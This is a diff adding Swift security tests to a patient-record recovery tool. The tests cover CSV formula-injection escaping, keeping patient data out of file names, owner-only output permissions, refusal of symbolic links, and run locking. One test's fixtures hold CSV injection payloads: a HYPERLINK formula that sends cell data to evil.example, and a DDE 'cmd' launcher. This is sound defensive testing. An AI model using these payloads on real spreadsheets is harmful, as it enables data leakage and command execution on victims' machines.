@@ -1,6 +1,8 @@
 import Foundation
 import Testing
+import Importing
 import LacunaCore
+@testable import Reports
 @testable import Recovery
 
 /// A small case on disk written by a test: a playbook and its source files, in a fresh folder.
@@ -37,8 +39,23 @@ struct SmallCase {
     var playbookURL: URL { folder.appendingPathComponent("playbook.yml") }
     var out: URL { folder.appendingPathComponent("out") }
 
-    func run(out: URL? = nil) throws -> RunOutcome {
-        try CaseRun(playbook: try Playbook.load(playbookURL), outputOverride: out ?? self.out).run()
+    func run(out: URL? = nil, now: Date? = nil, notice: @escaping @Sendable (String) -> Void = { _ in }) throws -> RunOutcome {
+        var caseRun = CaseRun(playbook: try Playbook.load(playbookURL), outputOverride: out ?? self.out)
+        if let now { caseRun.work.now = now }
+        caseRun.notice = notice
+        return try caseRun.run()
+    }
+
+    /// Every file under the output folder, relative to it.
+    func outputFiles() -> [String] {
+        (FileManager.default.enumerator(atPath: out.path)?.allObjects as? [String] ?? []).sorted()
+    }
+
+    /// Every CSV the run wrote, parsed: (file, cells as written).
+    func outputCSVs() throws -> [(String, [[String]])] {
+        try outputFiles().filter { $0.hasSuffix(".csv") }.map { name in
+            (name, CSVReader.read(Array(try Data(contentsOf: out.appendingPathComponent(name)))).records.map(\.fields))
+        }
     }
 
     func text(_ name: String) throws -> String {
@@ -109,4 +126,249 @@ struct AdversarialTests {
         #expect(source.rejected == 2)
         #expect(outcome.view.traces.values.filter { $0.kind == .portal }.allSatisfy { $0.time?.localDate.description == "2025-04-03" })
     }
+
+    @Test("F4: no cell of any CSV begins with =, +, -, @, tab or CR; phone numbers stay text")
+    func formulaInjection() throws {
+        let register = """
+            Patient ID,NHI,Surname,First Name,DOB,Mobile,Email
+            P1,ZZZ0016,"=HYPERLINK(""http://evil.example/?""&A1,""Click"")",Jane,12/05/1980,021 123 4567,@SUM(1+1)
+            P2,ZZZ0024,-Ngata,"\tAroha",01/02/1990,+64 27 765 4321,"\r=1+2"
+
+            """
+        let appointments = """
+            Appt Date,Start Time,Practitioner,Patient ID,Patient Name,Reason,Status
+            3/04/2025,9:15 am,RS,P1,"=HYPERLINK(""x""), Jane",+cmd|' /C calc'!A0,Arrived
+            4/04/2025,10:00 am,@RS,P2,"Ngata, Aroha",=2+5,Arrived
+
+            """
+        let portal = """
+            [{"message_id":"=M1","sent_at":"2025-04-03T10:15:00+13:00","sender":{"name":"=cmd|' /C calc'!A0","nhi":"ZZZ0016","email":"@evil"},"subject":"+subject","body":"-body","type":"message"}]
+            """
+        let small = try SmallCase(sources: [("register", "register.csv"), ("appointments", "appointments.csv"), ("portal", "portal.json")],
+                                  texts: ["register.csv": register, "appointments.csv": appointments, "portal.json": portal])
+        let outcome = try small.run()
+        #expect(outcome.view.encounters.count >= 2)
+        var cells = 0
+        for (name, rows) in try small.outputCSVs() {
+            for row in rows {
+                for cell in row {
+                    cells += 1
+                    guard let first = cell.unicodeScalars.first else { continue }
+                    let plainNegative = first == "-" && Double(cell) != nil
+                    #expect(!"=+-@\t\r".unicodeScalars.contains(first) || plainNegative, "\(name): a cell begins with \(first)")
+                }
+            }
+        }
+        #expect(cells > 100)
+        let candidates = try small.text("candidates.csv")
+        #expect(candidates.contains("'+64277654321"))
+        #expect(candidates.contains("'+64211234567"))
+        #expect(try small.text("inbox.csv").contains("'+subject"))
+        #expect(CSVWriter.spreadsheetSafe("-3.25") == "-3.25")
+        #expect(CSVWriter.spreadsheetSafe("-3.2.5") == "'-3.2.5")
+        #expect(CSVWriter.spreadsheetSafe("00123") == "'00123")
+        #expect(CSVWriter.spreadsheetSafe("123456789012") == "'123456789012")
+        #expect(CSVWriter.spreadsheetSafe("12345") == "12345")
+        #expect(CSVWriter.spreadsheetSafe("0") == "0")
+        for cell in ["=1+2", "+6421", "@x", "\tx", "\rx", "-x", "00123", "x", "'quoted", "''=x", ""] {
+            #expect(CSVWriter.plain(CSVWriter.spreadsheetSafe(cell)) == cell)
+        }
+    }
+
+    @Test("F5: a provider value of hundreds of bytes carrying patient data names no file and appears in no message")
+    func longPractitioner() throws {
+        let long = "Tipene Jane 12/05/1980 NHI ZZZ0016 " + String(repeating: "seen by the locum on the ward round ", count: 8)
+        let appointments = """
+            Appt Date,Start Time,Practitioner,Patient ID,Patient Name,Reason,Status
+            3/04/2025,9:15 am,\(long),P1,"Tipene, Jane",knee,Arrived
+            4/04/2025,10:00 am,RS,P2,"Ngata, Aroha",cough,Arrived
+
+            """
+        let small = try SmallCase(sources: [("register", "register.csv"), ("appointments", "appointments.csv")],
+                                  texts: ["register.csv": Self.register, "appointments.csv": appointments])
+        for _ in 0..<2 {
+            let outcome = try small.run()
+            #expect(outcome.view.encounters.count == 2)
+            let files = small.outputFiles()
+            #expect(files.contains("call-lists/RS.csv"))
+            #expect(files.contains { $0.hasPrefix("call-lists/clinician-") && $0.hasSuffix(".csv") })
+            for file in files {
+                #expect(file.utf8.count < 120)
+                for secret in ["Tipene", "ZZZ0016", "1980", "locum"] { #expect(!file.contains(secret), "\(file)") }
+            }
+            for warning in outcome.warnings {
+                for secret in ["Tipene", "ZZZ0016", "1980", "locum"] { #expect(!warning.contains(secret)) }
+            }
+        }
+        #expect(CallList.fileLabel("WS", listed: []) == "WS")
+        #expect(CallList.fileLabel("Dr-Jones", listed: ["Dr-Jones"]) == "Dr-Jones")
+        #expect(CallList.fileLabel("Dr-Jones", listed: []).hasPrefix("clinician-"))
+        #expect(CallList.fileLabel("../x", listed: ["../x"]).hasPrefix("clinician-"))
+        #expect(CallList.fileLabel(nil, listed: []) == "unassigned")
+    }
+
+    @Test("F8: a source file whose name is not UTF-8 is read, counted, and named with its odd bytes escaped")
+    func nonUTF8Name() throws {
+        let small = try SmallCase(sources: [("register", "register")], texts: [:])
+        let folder = small.folder.appendingPathComponent("register")
+        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
+        let name = Array(folder.path.utf8) + Array("/M".utf8) + [0xE9] + Array("decins.csv".utf8)
+        let descriptor = (name + [0]).withUnsafeBufferPointer { buffer in
+            buffer.baseAddress!.withMemoryRebound(to: CChar.self, capacity: buffer.count) { open($0, O_WRONLY | O_CREAT, 0o600) }
+        }
+        #expect(descriptor >= 0)
+        let bytes = Array(Self.register.utf8)
+        _ = bytes.withUnsafeBytes { write(descriptor, $0.baseAddress!, $0.count) }
+        close(descriptor)
+        let outcome = try small.run()
+        #expect(outcome.view.sources[0].files == 1)
+        #expect(outcome.view.sources[0].imported == 2)
+        #expect(outcome.warnings.contains { $0.contains("register/M\\xE9decins.csv") && $0.contains("not UTF-8") })
+        #expect(SourceFiles.display([0x61, 0xC3, 0xA9, 0xFF, 0x62]) == "aé\\xFFb")
+    }
+
+    @Test("F9: outputs are owner-only whatever was there; a leftover temporary file or a symbolic link is never written through")
+    func ownerOnly() throws {
+        let small = try SmallCase(sources: [("register", "register.csv")], texts: ["register.csv": Self.register])
+        try FileManager.default.createDirectory(at: small.out, withIntermediateDirectories: true)
+        chmod(small.out.path, 0o777)
+        FileManager.default.createFile(atPath: small.out.appendingPathComponent(".candidates.csv.partial").path, contents: Data("x".utf8),
+                                       attributes: [.posixPermissions: 0o644])
+        let elsewhere = small.folder.appendingPathComponent("elsewhere.txt")
+        try Data("untouched".utf8).write(to: elsewhere)
+        try FileManager.default.createSymbolicLink(atPath: small.out.appendingPathComponent(".sms.csv.partial").path, withDestinationPath: elsewhere.path)
+        try FileManager.default.createSymbolicLink(atPath: small.out.appendingPathComponent("inbox.csv").path, withDestinationPath: elsewhere.path)
+        _ = try small.run()
+        func mode(_ path: String) throws -> Int {
+            (try FileManager.default.attributesOfItem(atPath: path)[.posixPermissions] as? Int) ?? -1
+        }
+        #expect(try mode(small.out.path) == 0o700)
+        for file in small.outputFiles() {
+            let path = small.out.appendingPathComponent(file).path
+            #expect(try mode(path) & 0o077 == 0, "\(file)")
+        }
+        #expect(String(decoding: try Data(contentsOf: elsewhere), as: UTF8.self) == "untouched")
+        let attributes = try FileManager.default.attributesOfItem(atPath: small.out.appendingPathComponent("inbox.csv").path)
+        #expect(attributes[.type] as? FileAttributeType == .typeRegular)
+        #expect(!small.outputFiles().contains { $0.hasSuffix(".partial") })
+        // A folder inside the output folder that is a symbolic link is refused, naming it.
+        try FileManager.default.removeItem(at: small.out.appendingPathComponent("requests"))
+        try FileManager.default.createSymbolicLink(atPath: small.out.appendingPathComponent("requests").path, withDestinationPath: small.folder.path)
+        #expect(throws: RunError.self) { try small.run() }
+        do { _ = try small.run() } catch { #expect(String(describing: error).contains("requests: it is a symbolic link")) }
+    }
+
+    @Test("F10: an output folder inside a source folder is refused before anything is written")
+    func outputInsideSource() throws {
+        let small = try SmallCase(sources: [("register", "register.csv"), ("portal", "sources/")],
+                                  texts: ["register.csv": Self.register, "sources/portal.csv": "Message ID,Date Sent,Patient Name\n"])
+        for out in [small.folder.appendingPathComponent("sources/out"), small.folder.appendingPathComponent("sources")] {
+            do {
+                _ = try small.run(out: out)
+                Issue.record("expected a refusal")
+            } catch {
+                #expect(String(describing: error).contains("is inside the `portal` source"))
+            }
+            #expect(!FileManager.default.fileExists(atPath: out.appendingPathComponent("case.sqlite").path))
+        }
+        let globbed = try SmallCase(sources: [("register", "register.csv"), ("portal", "s*/")],
+                                    texts: ["register.csv": Self.register, "sources/portal.csv": "Message ID,Date Sent,Patient Name\n"])
+        #expect(throws: RunError.self) { try globbed.run(out: globbed.folder.appendingPathComponent("sources/deep/out")) }
+        _ = try small.run()   // beside the sources: fine
+    }
+
+    @Test("F11: a window of years is a typo, refused with its line unless --long-window; the SMS names both years")
+    func longWindow() throws {
+        let small = try SmallCase(sources: [("register", "register.csv")], texts: ["register.csv": Self.register])
+        let text = try String(contentsOf: small.playbookURL, encoding: .utf8).replacingOccurrences(of: "to: 2025-04-04", with: "to: 2052-04-04")
+        try text.write(to: small.playbookURL, atomically: true, encoding: .utf8)
+        do {
+            _ = try Playbook.load(small.playbookURL)
+            Issue.record("expected a refusal")
+        } catch {
+            #expect(error.line == 4)
+            #expect(error.description.contains("the window is 9864 days"))
+            #expect(error.description.contains("--long-window"))
+        }
+        let book = try Playbook.load(small.playbookURL, longWindow: true)
+        #expect(book.window.dates.count == 9864)
+        let view = CaseView(caseName: "c", practiceName: "p", window: book.window, sources: [], patients: [], traces: [], encounters: [], unmatched: [], rejects: [])
+        #expect(SMSList.message(view, options: WorkOptions()).contains("Thu 3 Apr 2025 to Thu 4 Apr 2052"))
+    }
+
+    @Test("F13: a second run on the same output folder waits for the first and says so")
+    func secondRunWaits() throws {
+        let small = try SmallCase(sources: [("register", "register.csv")], texts: ["register.csv": Self.register])
+        try FileManager.default.createDirectory(at: small.out, withIntermediateDirectories: true)
+        var held: RunLock? = try RunLock(folder: small.out) {}
+        let said = Said()
+        let finished = Said()
+        let thread = Thread {
+            do {
+                _ = try small.run(notice: { said.add($0) })
+                finished.add("ok")
+            } catch {
+                finished.add("failed: \(error)")
+            }
+        }
+        thread.start()
+        Thread.sleep(forTimeInterval: 0.5)
+        #expect(finished.all.isEmpty)
+        #expect(said.all.contains { $0.contains("another run is in progress") })
+        held = nil
+        _ = held
+        for _ in 0..<200 where finished.all.isEmpty { Thread.sleep(forTimeInterval: 0.05) }
+        #expect(finished.all == ["ok"])
+    }
+
+    @Test("F14: a failure to write an output names that output, not the case database")
+    func writeFailureNamed() throws {
+        let small = try SmallCase(sources: [("register", "register.csv")], texts: ["register.csv": Self.register])
+        try FileManager.default.createDirectory(at: small.out.appendingPathComponent("candidates.csv/x"), withIntermediateDirectories: true)
+        do {
+            _ = try small.run()
+            Issue.record("expected a failure")
+        } catch {
+            let text = String(describing: error)
+            #expect(text.contains("cannot write out/candidates.csv"))
+            #expect(!text.contains("case.sqlite"))
+        }
+    }
+
+    @Test("F18: the same encounter and note keep their control id whatever day the run is made")
+    func stableControlIDs() throws {
+        let appointments = """
+            Appt Date,Start Time,Practitioner,Patient ID,Patient Name,Reason,Status
+            3/04/2025,9:15 am,RS,P1,"Tipene, Jane",knee,Arrived
+
+            """
+        let small = try SmallCase(sources: [("register", "register.csv"), ("appointments", "appointments.csv")],
+                                  texts: ["register.csv": Self.register, "appointments.csv": appointments])
+        let clock = PracticeClock(timeZoneIdentifier: "Pacific/Auckland")!
+        var ids: [[String]] = []
+        for day in [10, 11] {
+            _ = try small.run(now: clock.instant(date: LocalDate(year: 2025, month: 4, day: day)!, time: LocalTime(hour: 9, minute: 0)!))
+            let rows = try #require(try small.outputCSVs().first { $0.0 == "annotations/annotations.csv" }?.1)
+            ids.append(rows.dropFirst().map { $0[2] })
+            #expect(try String(contentsOf: small.out.appendingPathComponent("annotations").appendingPathComponent(rows[1][0]), encoding: .utf8)
+                .contains("Retrospective entry made 2025-04-\(day)"))
+        }
+        #expect(ids[0].count == 1)
+        #expect(ids[0] == ids[1])
+    }
+
+    @Test("a file named by two sources is said")
+    func fileTwice() throws {
+        let small = try SmallCase(sources: [("register", "register.csv"), ("callbacks", "*.csv")], texts: ["register.csv": Self.register])
+        let outcome = try small.run()
+        #expect(outcome.warnings.contains { $0.contains("register.csv is named by 2 sources") && $0.contains("`callbacks` (line 9)") })
+    }
+}
+
+/// Lines said from another thread.
+final class Said: @unchecked Sendable {
+    private var lines: [String] = []
+    private let lock = NSLock()
+    func add(_ line: String) { lock.lock(); lines.append(line); lock.unlock() }
+    var all: [String] { lock.lock(); defer { lock.unlock() }; return lines }
 }
